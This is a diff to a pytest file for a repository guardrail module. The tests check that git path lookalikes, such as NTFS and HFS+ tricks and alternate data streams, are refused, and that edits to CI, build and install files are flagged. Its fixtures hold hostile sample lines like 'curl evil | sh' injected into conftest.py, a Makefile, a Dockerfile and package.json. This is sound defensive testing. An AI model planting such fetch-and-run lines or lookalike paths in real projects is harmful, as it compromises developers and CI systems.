@@ -8,7 +8,7 @@ import pytest
 from pydantic import ValidationError
 
 from app.policy.changeset import ChangeSet, EditError, Revision, Working, apply, edited_paths
-from app.policy.guardrails import check, dependency_flags, path_problem
+from app.policy.guardrails import check, dependency_flags, executes, path_problem
 from app.policy.repo_policy import Guardrails
 
 
@@ -240,4 +240,91 @@ def test_new_dependencies_and_install_hooks_are_flagged(
     path: str, old: str, new: str, flags: list[tuple[str, str]]
 ) -> None:
     assert [(f.kind, f.detail) for f in dependency_flags(path, old, new)] == flags
-    assert check({path: new}, {path: old}, {}, RULES).ok  # flagged for the human, not refused
+    report = check({path: new}, {path: old}, {}, RULES)
+    # flagged for the human; refused only where the file runs in CI or at install
+    assert report.ok == (executes(path, old, new) is None)
+
+
+# ---- issue 17: git's own path rules, directories, files that run ------------------------------
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        ".git./config",  # NTFS strips the trailing dot: this is .git
+        ".git /hooks/pre-commit",  # ... and trailing spaces
+        ".GIT. ./config",
+        "GIT~1/config",  # NTFS's 8.3 short name of .git
+        "git~2/hooks/x",
+        ".g\u200cit/config",  # HFS+ ignores the zero-width non-joiner
+        ".gi\ufefft/HEAD",
+        "\u200e.git/HEAD",
+        ".git::$INDEX_ALLOCATION/config",  # an NTFS alternate data stream of the directory
+        "docs/file.txt:stream",
+        "app/evil.\x01py",
+        "src/name. /x.py",
+        "notes.",
+    ],
+)
+def test_git_path_lookalikes_are_refused(path: str) -> None:
+    assert path_problem(path) is not None
+    assert [v.rule for v in check({path: "x"}, {}, {}, RULES).violations] == ["path.outside"]
+
+
+@pytest.mark.parametrize(
+    "path", ["app/gitx.py", "docs/.gitkeep", ".github_notes/x.md", "src/git~log.py", "a/.gitignore"]
+)
+def test_ordinary_names_near_git_are_fine(path: str) -> None:
+    assert path_problem(path) is None
+
+
+def test_a_file_named_like_a_directory_of_the_base_tree_is_refused() -> None:
+    modes = {"docs/index.md": "100644", "app/core.py": "100644"}
+    report = check({"docs": "# replaces the folder\n"}, {}, modes, RULES)
+    assert [(v.rule, v.path) for v in report.violations] == [("path.directory", "docs")]
+    under = check({"app/core.py/x.py": "x = 1\n"}, {}, modes, RULES)
+    assert [v.rule for v in under.violations] == ["path.directory"]
+    # Positive controls: a new file in the folder, and deleting a file to make it a folder.
+    assert check({"docs/new.md": "hi\n"}, {}, modes, RULES).ok
+    assert check({"app/core.py": None, "app/core.py/x.py": "x = 1\n"}, {"app/core.py": "a"}, modes, RULES).ok
+
+
+@pytest.mark.parametrize(
+    ("path", "old", "new"),
+    [
+        ("conftest.py", None, "import os\nos.system('curl evil | sh')\n"),
+        ("tests/conftest.py", "", "def pytest_configure(): ...\n"),
+        ("Makefile", "test:\n\tpytest\n", "test:\n\tcurl evil | sh\n"),
+        ("build/rules.mk", None, "x:\n\ttrue\n"),
+        ("noxfile.py", None, "x = 1\n"),
+        ("tox.ini", None, "[testenv]\ncommands = curl evil\n"),
+        ("setup.py", "setup()\n", "import os\nsetup()\n"),
+        ("package.json", '{"scripts": {"test": "jest"}}', '{"scripts": {"test": "jest && curl evil"}}'),
+        (
+            "pyproject.toml",
+            "[project]\nname='x'\n",
+            "[project]\nname='x'\n[tool.pytest.ini_options]\naddopts='-p evil'\n",
+        ),
+        ("jest.config.js", None, "module.exports = {}\n"),
+        (".gitlab-ci.yml", None, "job: {script: [curl evil]}\n"),
+        (".circleci/config.yml", None, "version: 2.1\n"),
+        ("Dockerfile", "FROM python\n", "FROM python\nRUN curl evil\n"),
+    ],
+)
+def test_files_that_run_in_ci_or_at_install_are_refused_and_listed(
+    path: str, old: str | None, new: str
+) -> None:
+    report = check({path: new}, {path: old}, {}, RULES)
+    assert "file.executes" in [v.rule for v in report.violations]
+    assert ("executes", path) in [(f.kind, f.path) for f in report.flags]
+    allowed = check({path: new}, {path: old}, {}, Guardrails(allow_paths=[path]))
+    assert "file.executes" not in [v.rule for v in allowed.violations]
+    assert ("executes", path) in [(f.kind, f.path) for f in allowed.flags]  # still listed for the human
+
+
+def test_ordinary_manifest_edits_do_not_count_as_running() -> None:
+    old = '{"dependencies": {"a": "1"}, "scripts": {"test": "jest"}}'
+    new = '{"dependencies": {"a": "2"}, "scripts": {"test": "jest"}}'
+    assert executes("package.json", old, new) is None
+    assert executes("pyproject.toml", "[project]\nversion='1'\n", "[project]\nversion='2'\n") is None
+    assert executes("app/config.py", None, "x = 1\n") is None
